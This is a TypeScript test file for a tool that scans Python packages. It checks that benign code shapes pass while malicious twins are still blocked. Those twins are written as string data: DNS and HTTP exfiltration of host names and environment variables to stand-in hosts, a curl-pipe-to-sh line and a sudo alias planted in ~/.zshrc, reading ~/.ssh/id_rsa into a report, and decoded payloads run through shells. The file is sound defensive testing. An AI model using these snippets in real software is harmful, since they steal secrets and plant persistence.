/**
 * Honest Python released from the Debian samples 1 and 3 (bench/debian-python-verdicts.ts --all), second round
 * (docs/package-analysis.md, "Branch pkghonest2"). Each statement: the shape that was misread (written here, a few
 * lines at most taken from the package), variants, and the malicious twin the rule must still catch. Parsed as
 * text; nothing is run.
 */
import { test } from 'uvu';
import * as assert from 'uvu/assert';
import { loadParsers } from '../../shared/parsers/tree-sitter.js';
import { sdistLevel as level } from '../support/archives.js';


test.before(async () => {
  await loadParsers();
});

// --- The machine's own host name looked up in a local zone (a kernel client's list of local interfaces) ---

const LOCAL_IPS = (lookup: string) => `import socket
LOCAL_IPS = []
PUBLIC_IPS = []
def _load_ips():
    hostname = socket.gethostname()
    PUBLIC_IPS[:] = socket.gethostbyname_ex(hostname)[2]
    if all(ip.startswith("127") for ip in PUBLIC_IPS):
        PUBLIC_IPS[:] = socket.gethostbyname_ex(${lookup})[2]
    LOCAL_IPS.extend(PUBLIC_IPS)
_load_ips()
`;

test('the host name looked up in a local zone (.local, .localdomain, .home.arpa) sends nothing out', async () => {
  for (const lookup of ['socket.gethostname() + ".local"', 'f"{socket.gethostname()}.localdomain"', '"{}.home.arpa".format(hostname)']) {
    const r = await level({ 'acmetools/__init__.py': LOCAL_IPS(lookup) });
    assert.not.ok(r.high.some((x) => /^recon_exfil/.test(x)), `${lookup}: ${r.high.join(' ')}`);
    assert.not.equal(r.level, 'BLOCKED', lookup);
  }
});

test('the host name or user spelled into a name of a foreign zone is still recon sent through DNS', async () => {
  for (const lookup of [
    'socket.gethostname() + ".k3.telemetry-dns.example"',
    'f"{socket.gethostname()}.local.exfil.example"',
    '"{}.{}.collect.example".format(__import__("getpass").getuser(), hostname)',
  ]) {
    const r = await level({ 'acmetools/__init__.py': LOCAL_IPS(lookup) });
    assert.ok(r.high.some((x) => /^(?:recon_exfil_flow|dns_recon)$/.test(x)), `${lookup}: ${r.high.join(' ')}`);
    assert.equal(r.level, 'BLOCKED', lookup);
  }
});

// --- A decoded value handed as an argument to a named program that is not a shell or an interpreter ---

const TEAM = (argv: string, extra = '') => `import json, subprocess, base64, sys, os
def manage_team(msg):
    try:
        config = json.loads(msg.get_attr('IFLA_TEAM_CONFIG'))
    except AttributeError:
        config = {'runner': {'name': 'activebackup'}}
    config['device'] = msg.get_attr('IFLA_IFNAME')
    with open(os.devnull, 'w') as fnull:
        subprocess.check_call(${argv}, stdout=fnull${extra})
`;

test('a decoded value as an argument of a literal program that reads data (teamd -c CONFIG) is not code run', async () => {
  for (const argv of [
    "['teamd', '-d', '-n', '-c', json.dumps(config)]",
    "('/usr/bin/teamdctl', 'team0', 'config', 'update', json.dumps(config))",
    "['nmcli', 'con', 'mod', 'team0', 'team.config', json.dumps(config, indent=2)]",
  ]) {
    const r = await level({ 'acmetools/__init__.py': TEAM(argv) });
    assert.not.ok(r.high.includes('decoded_code_exec'), `${argv}: ${r.high.join(' ')}`);
    assert.not.equal(r.level, 'BLOCKED', argv);
  }
});

test('a decoded value run by a shell, an interpreter, a launcher or a network client, or as the program, is still decoded code', async () => {
  for (const [argv, extra] of [
    ["['sh', '-c', base64.b64decode('bHMgLWxh').decode()]", ''],
    ["['/bin/bash', '-c', json.dumps(config)]", ''],
    ["['python3', '-c', base64.b64decode(config['x'])]", ''],
    ["[sys.executable, '-c', base64.b64decode(config['x'])]", ''],
    ["['nohup', base64.b64decode(config['x']).decode()]", ''],
    ["['wget', '-q', base64.b64decode('aHR0cDovL2V4YW1wbGUubmV0L3g=').decode()]", ''],
    ["[base64.b64decode(config['x']).decode(), '--quiet']", ''],
    ["['teamd', '-c', json.dumps(config)]", ', shell=True'],
    // (only a serialised document is the program's data: a decoded string itself may be anything)
    ["['teamd', '-c', base64.b64decode(config['x']).decode()]", ''],
  ] as const) {
    const r = await level({ 'acmetools/__init__.py': TEAM(argv, extra) });
    assert.ok(r.high.some((x) => /^decoded?_(?:code_)?exec$/.test(x)), `${argv}${extra}: ${r.high.join(' ')}`);
    assert.equal(r.level, 'BLOCKED', `${argv}${extra}`);
  }
});

// --- The environment a child is started with, as a positional argument of os.exec*e ---

const CGI = (exec: string) => `import os, base64, sys
class CGIHandler:
    def run_cgi(self, scriptfile, script, query):
        env = dict(os.environ)
        authorization = self.headers.get("authorization")
        if authorization:
            authorization = authorization.split()
            if len(authorization) == 2 and authorization[0].lower() == "basic":
                authorization = base64.decodebytes(authorization[1].encode('ascii')).decode('ascii')
                env['REMOTE_USER'] = authorization.split(':')[0]
        args = [script]
        pid = os.fork()
        if pid == 0:
            ${exec}
`;

test("a decoded header put into a CGI child's environment (os.execve's env) is not code run", async () => {
  for (const exec of ['os.execve(scriptfile, args, env)', 'os.execvpe(script, args, env)', 'os.spawnve(os.P_WAIT, scriptfile, args, env)']) {
    const r = await level({ 'acmetools/server.py': CGI(exec) });
    assert.not.ok(r.high.includes('decoded_code_exec'), `${exec}: ${r.high.join(' ')}`);
    assert.not.equal(r.level, 'BLOCKED', exec);
  }
});

test('decoded data in the argument vector of os.execve is still decoded code', async () => {
  for (const exec of ["os.execve('/bin/sh', ['sh', '-c', authorization], env)", 'os.execv(authorization, args)', "os.execle('/bin/sh', 'sh', '-c', authorization, env)"]) {
    const r = await level({ 'acmetools/server.py': CGI(exec) });
    assert.ok(r.high.some((x) => /^decoded?_(?:code_)?exec$/.test(x)), `${exec}: ${r.high.join(' ')}`);
    assert.equal(r.level, 'BLOCKED', exec);
  }
});

// --- Compiled code read back from the bytecode cache of a source file (an import hook that translates modules) ---

const HOOK = (read: string) => `import imp, marshal, os, base64, zlib
class Loader:
    def load_module(self, fullname):
        mod = imp.new_module(fullname)
        cachename = imp.cache_from_source(self.pathname)
        update_cache = not os.path.exists(cachename)
        if not update_cache:
            with open(cachename, 'rb') as f:
                data = f.read()
                try:
                    code = ${read}
                except Exception:
                    update_cache = True
        if update_cache:
            with open(self.pathname) as f:
                source = f.read()
            code = compile(source, self.pathname, 'exec')
            with open(cachename, 'wb') as f:
                data = marshal.dumps(code)
                f.write(data)
        exec(code, mod.__dict__)
        return mod
`;

test("marshal.loads of a source file's bytecode cache, then exec, is an import hook, not hidden code", async () => {
  for (const read of ['marshal.loads(data)', "marshal.loads(open(importlib.util.cache_from_source(self.pathname), 'rb').read())"]) {
    const r = await level({ 'acmetools/__init__.py': `import importlib.util\n${HOOK(read)}` });
    assert.not.ok(r.high.includes('decoded_code_exec'), `${read}: ${r.high.join(' ')}`);
    assert.not.equal(r.level, 'BLOCKED', read);
  }
});

test('marshal.loads of a shipped blob, a decoded literal, or a decompressed cache is still decoded code', async () => {
  for (const read of [
    "marshal.loads(open(os.path.join(os.path.dirname(__file__), 'payload.bin'), 'rb').read())",
    "marshal.loads(base64.b64decode('YwAAAAAAAAAA'))",
    'marshal.loads(zlib.decompress(data))',
  ]) {
    const r = await level({ 'acmetools/__init__.py': HOOK(read) });
    assert.ok(r.high.includes('decoded_code_exec'), `${read}: ${r.high.join(' ')}`);
  }
  // the handle of another file read under the same name: not the cache
  const other = HOOK('marshal.loads(data)').replace("with open(cachename, 'rb') as f:", "with open(self.pathname + '.bin', 'rb') as f:");
  assert.ok((await level({ 'acmetools/__init__.py': other })).high.includes('decoded_code_exec'));
});

// --- An obfuscator's name that is also an ordinary word, in prose ---

test('Hyperion or Kramer in prose (a quoted text, a comment) is not an obfuscator mark', async () => {
  const prose = `"""Sample paragraphs for the layout engine."""
TEXT = """But so the god prevented them from ever reaching home: they had eaten
the cattle of the Sun-god Hyperion."""
AUTHORS = ["Ada Kramer"]  # Kramer wrote the table code
def evaluate(expr, ns):
    return eval(expr, ns)
`;
  const r = await level({ 'acmetools/__init__.py': prose });
  assert.not.ok(r.high.includes('known_obfuscator'), r.high.join(' '));
});

test("an obfuscator's signature or class (Hyperion, Kramer) is still its mark", async () => {
  for (const mark of ["__obfuscator__ = 'Hyperion'\n", "__obfuscator__ = 'Kramer'\n", 'class Kramer():\n    pass\n']) {
    const r = await level({ 'acmetools/__init__.py': `${mark}x = 1\nexec(compile('x = 2', '<s>', 'exec'))\n` });
    assert.ok(r.high.includes('known_obfuscator'), `${mark}: ${r.high.join(' ')}`);
  }
});

// --- The process's environment handed on as a call's env= setting (a wheel updater's download) ---

const UPDATE = `import os, json
from urllib.request import urlopen
from acmetools import acquire
def _run_do_update(distribution, wheelhouse):
    dest = acquire.download_wheel(distribution=distribution, to_folder=wheelhouse, env=os.environ)
    return release_date_for_wheel_path(dest.path)
def release_date_for_wheel_path(dest):
    wheel = Wheel(dest)
    return _index_info(wheel.distribution)
def _index_info(distribution):
    url = f"https://index.example.org/pypi/{distribution}/json"
    with urlopen(url) as fh:
        return json.load(fh)
_run_do_update('pip', 'wheels')
`;

test('a call given env=os.environ does not return the environment (what is fetched with its result sends none)', async () => {
  const acquire = 'import subprocess\ndef download_wheel(distribution, to_folder, env):\n    subprocess.check_call(["pip", "download", distribution, "-d", to_folder], env=env)\n    return Wheel(to_folder)\n';
  const r = await level({ 'acmetools/__init__.py': UPDATE, 'acmetools/acquire.py': acquire });
  assert.not.ok(r.high.includes('env_exfil_flow'), r.high.join(' '));
  assert.not.equal(r.level, 'BLOCKED');
});

test('the environment sent directly, or handed on in any other form, is still the environment sent', async () => {
  const direct = "import os, requests\nrequests.post('https://collect.example.net/e', json=dict(os.environ))\n";
  assert.ok((await level({ 'acmetools/__init__.py': direct })).high.includes('env_exfil_flow'));
  const acquire = 'def download_wheel(*args, **kw):\n    return (args, kw)\n';
  assert.ok((await level({ 'acmetools/__init__.py': UPDATE, 'acmetools/acquire.py': acquire })).level !== 'BLOCKED');
  // a copy of the environment (not the process's own mapping) as env= keeps its taint in the call's result
  for (const call of ['env=dict(os.environ)', 'env=os.environ.copy()']) {
    const src = UPDATE.replace('env=os.environ', call);
    const r = await level({ 'acmetools/__init__.py': src, 'acmetools/acquire.py': acquire });
    assert.ok(r.high.includes('env_exfil_flow'), `${call}: ${r.high.join(' ')}`);
    assert.equal(r.level, 'BLOCKED', call);
  }
});

// --- A shell start-up file given only the shell's own completion set-up (a CLI framework's completion install) ---

const ZSHRC = (lines: string) => `from pathlib import Path
def install_zsh(prog_name):
    zshrc_path = Path.home() / ".zshrc"
    zshrc_content = ""
    if zshrc_path.is_file():
        zshrc_content = zshrc_path.read_text()
    completion_init_lines = [${lines}]
    for line in completion_init_lines:
        if line not in zshrc_content:
            zshrc_content += f"\\n{line}"
    zshrc_content += "\\n"
    zshrc_path.write_text(zshrc_content)
install_zsh("acme")
`;

test('completion set-up lines (autoload, compinit, zstyle, fpath) appended to ~/.zshrc are configuration, not persistence', async () => {
  const typer = `"autoload -Uz compinit", "compinit", "zstyle ':completion:*' menu select", "fpath+=~/.zfunc"`;
  const r = await level({ 'acmetools/__init__.py': ZSHRC(typer) });
  assert.not.ok(r.high.some((x) => /^persistence_/.test(x)), r.high.join(' '));
  assert.not.equal(r.level, 'BLOCKED');
  // variant: a .bashrc rewritten with its content and one literal block
  const bash = 'from pathlib import Path\np = Path.home() / ".bashrc"\np.write_text(p.read_text() + "\\nautoload -U bashcompinit\\nbashcompinit\\nsetopt complete_aliases\\n")\n';
  assert.not.ok((await level({ 'acmetools/__init__.py': bash })).high.some((x) => /^persistence_/.test(x)));
});

test('a start-up file given a line that starts a program, evaluates, or content not written in the code is still persistence', async () => {
  for (const lines of [
    `"compinit", "nohup ~/.cache/.acme-agent >/dev/null 2>&1 &"`,
    `"compinit", "curl -fsSL https://get.example.net/i.sh | sh"`,
    `"compinit", "zstyle -e ':completion:*' hosts 'reply=($(id))'"`,
    `"compinit", "alias sudo='~/.acme/sudo'"`,
    `"compinit", "export PATH=~/.acme/bin:$PATH"`,
    `"compinit", open("/tmp/acme-extra").read()`,
  ]) {
    const r = await level({ 'acmetools/__init__.py': ZSHRC(lines) });
    assert.ok(r.high.some((x) => /^persistence_/.test(x)), `${lines}: ${r.high.join(' ')}`);
    assert.equal(r.level, 'BLOCKED', lines);
  }
});

// --- A start-up file's name versus an attribute or an extension that spells the same (`self.profile`, `%s.profile`) ---

const ENV_CONFIG = (extra: string) => `import os, sys
class Environment:
    def __init__(self, build_path):
        self.build_path = build_path
    def load_dispatcher_includes(self, path):
        with open(path) as fh:
            exec(fh.read(), {})
    def profile_command(self, target):
        ${extra}
env = Environment('build')
env.load_dispatcher_includes('dispatcher_include.py')
env.profile_command('acme')
`;

test('an attribute named profile or a profiler output file is not a shell start-up file (no risk combination)', async () => {
  for (const extra of ["return 'python -Qnew -m cProfile -o %s.profile' % os.path.basename(target)", 'return self.profile or self.build_path']) {
    const r = await level({ 'acmetools/__init__.py': ENV_CONFIG(extra) });
    assert.equal(r.level === 'CAUTION' || r.level === 'BLOCKED', false, `${extra}: ${r.level}`);
  }
});

test('a real start-up file named next to code run from a data file is still a risk combination', async () => {
  for (const extra of [
    "open(os.path.expanduser('~/.profile'), 'a').write('export ACME=1\\n')",
    "open(os.path.join(os.environ['HOME'], '.bashrc'), 'a').write(target)",
  ]) {
    const r = await level({ 'acmetools/__init__.py': ENV_CONFIG(extra) });
    assert.ok(r.level === 'CAUTION' || r.level === 'BLOCKED', `${extra}: ${r.level}`);
  }
});

// --- A bug report with facts about the machine, sent by the handler of a button the user presses ---

const GUI = (bind: string, body = '', extra = '') => `import os, sys, getpass, smtplib, subprocess, wx
from email.mime.text import MIMEText
smtp_server = 'mail.tissue-lab.example'
bug_report_email = 'bugs@tissue-lab.example'
class MainFrame(wx.Frame):
    def __init__(self, parent):
        wx.Frame.__init__(self, parent)
        send_b = wx.Button(self, -1, 'Send bug report')
        ${bind}
        ${extra}
    def OnRun(self, event):
        self.proc = subprocess.Popen([sys.executable, '-c', 'import acmetools.runner; acmetools.runner.main()'])
    def OnSend(self, event):
        msg = 'os.getcwd(): %r\\n' % (os.getcwd())
        msg += 'sys.argv: ' + repr(sys.argv) + '\\n'
        user = getpass.getuser()
        msg += 'user: %s\\n' % user
        ${body}
        mail = MIMEText(msg)
        s = smtplib.SMTP()
        s.connect(smtp_server)
        s.sendmail(user + '@' + smtp_server, bug_report_email, mail.as_string())
        s.close()
`;

test('machine facts e-mailed by the handler of a button the user presses: CAUTION, not BLOCKED', async () => {
  for (const bind of [
    'self.Bind(wx.EVT_BUTTON, self.OnSend, id=send_b.GetId())',
    'self.Bind(wx.EVT_MENU, self.OnSend, id=wx.ID_ANY)',
    'send_b.clicked.connect(self.OnSend)',
    "tk.Button(self, text='Send', command=self.OnSend)",
  ]) {
    const r = await level({ 'acmetools/gui.py': GUI(bind) });
    assert.not.equal(r.level, 'BLOCKED', `${bind}: ${r.high.join(' ')}`);
    assert.equal(r.level, 'CAUTION', bind);
  }
});

test('the same report sent unasked, by a timer, or with the environment or a key in it is still BLOCKED', async () => {
  for (const [bind, body, extra] of [
    ['self.Bind(wx.EVT_BUTTON, self.OnSend, id=send_b.GetId())', '', 'self.OnSend(None)'],
    ['self.Bind(wx.EVT_TIMER, self.OnSend, self.timer)', '', ''],
    ['self.Bind(wx.EVT_IDLE, self.OnSend)', '', ''],
    ['self.Bind(wx.EVT_BUTTON, self.OnSend, id=send_b.GetId())', "msg += repr(dict(os.environ))", ''],
    ['self.Bind(wx.EVT_BUTTON, self.OnSend, id=send_b.GetId())', "msg += open(os.path.expanduser('~/.ssh/id_rsa')).read()", ''],
  ] as const) {
    const r = await level({ 'acmetools/gui.py': GUI(bind, body, extra) });
    assert.equal(r.level, 'BLOCKED', `${bind} ${body} ${extra}: ${r.high.join(' ')}`);
  }
});

test.run();
